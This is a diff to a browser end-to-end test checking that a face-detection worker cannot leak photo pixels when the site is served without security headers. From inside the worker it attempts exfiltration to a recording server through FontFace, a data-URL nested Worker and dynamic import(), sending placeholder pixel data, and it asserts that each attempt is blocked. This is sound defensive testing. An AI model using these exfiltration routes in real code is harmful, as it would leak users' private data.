@@ -1,17 +1,20 @@
 /**
- * The face worker holds the photo's pixels, and a page's meta-tag policy does not reach it: on a
- * host that ignores `_headers` only the worker's own lockdown (src/workers/lock-down-face-worker.ts)
- * keeps them in. Here the built site is served by a plain static server that sends no security
- * headers; after a full analysis (both models loaded), code run inside the worker tries every way
- * out to a second origin, which records whatever reaches it.
+ * The face worker holds the photo's pixels. On a host that ignores `_headers` two things keep them
+ * in: the worker starts from a `blob:` address, so the page's meta-tag policy holds inside it (which
+ * alone stops `import()` from another origin), and its own lockdown
+ * (src/workers/lock-down-face-worker.ts) closes every network API a script could call. Here the
+ * built site is served by a plain static server that sends no security headers; after a full
+ * analysis (both models loaded), code run inside the worker tries every way out to a second
+ * origin, which records whatever reaches it.
  */
+import { readdirSync } from "node:fs";
 import { join } from "node:path";
 import { expect, test } from "@playwright/test";
 import { NETWORK_CLOSED_MESSAGE } from "../../src/lib/face-engine/worker-network-lockdown";
 import { startEngineServer, type EngineServer } from "../../scripts/face-engine/engine-runner";
 import { makePhoto, ONE_FACE } from "./support/face-photos";
 import { startRecordingServer, type RecordingServer } from "./support/recording-server";
-import { waitForIsland, watchConsoleErrors } from "./support/site-pages";
+import { faceWorker, waitForIsland, watchConsoleErrors } from "./support/site-pages";
 
 /** The build playwright.config.ts serves. */
 const BUILD = join(import.meta.dirname, "../..", process.env["SITE_OUT_DIR"] ?? "dist");
@@ -57,9 +60,11 @@ test("served without headers, the face worker can load its models but send nothi
     timeout: 150_000,
   });
 
-  const worker = page.workers().find((candidate) => candidate.url().includes("face-landmarks"));
-  if (!worker) throw new Error("the face worker is not running");
-  const workerResponse = await fetch(worker.url());
+  const worker = await faceWorker(page);
+  expect(worker.url()).toMatch(/^blob:/);
+  const script = readdirSync(join(BUILD, "_astro")).find((name) => /^face-landmarks\.worker-[\w-]+\.js$/.test(name));
+  const workerResponse = await fetch(`${site.origin}/_astro/${script}`);
+  expect(workerResponse.ok).toBe(true);
   expect(workerResponse.headers.get("content-security-policy")).toBeNull();
 
   // Each way out, tried from inside the worker as a script running there would.
@@ -92,6 +97,8 @@ test("served without headers, the face worker can load its models but send nothi
       },
       FontFace: () => new scope.FontFace("leak", `url(${target}/font?pixels=AAAA)`).load(),
       Worker: () => new Worker(`data:text/javascript,fetch("${target}/nested?pixels=AAAA")`),
+      // No script can take import() away: the page's policy, which the worker keeps, refuses it.
+      "import()": () => import(/* @vite-ignore */ `${target}/module.js?pixels=AAAA`),
     };
     const outcomes: Record<string, string> = {};
     for (const [way, attempt] of Object.entries(ways)) {
@@ -117,6 +124,7 @@ test("served without headers, the face worker can load its models but send nothi
     caches: "stopped: no caches",
     FontFace: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
     Worker: `stopped: ${NETWORK_CLOSED_MESSAGE}`,
+    "import()": expect.stringMatching(/^stopped: .*dynamically imported module/),
   });
   expect(elsewhere.requests).toEqual([]);
   expect(errors).toEqual([]);
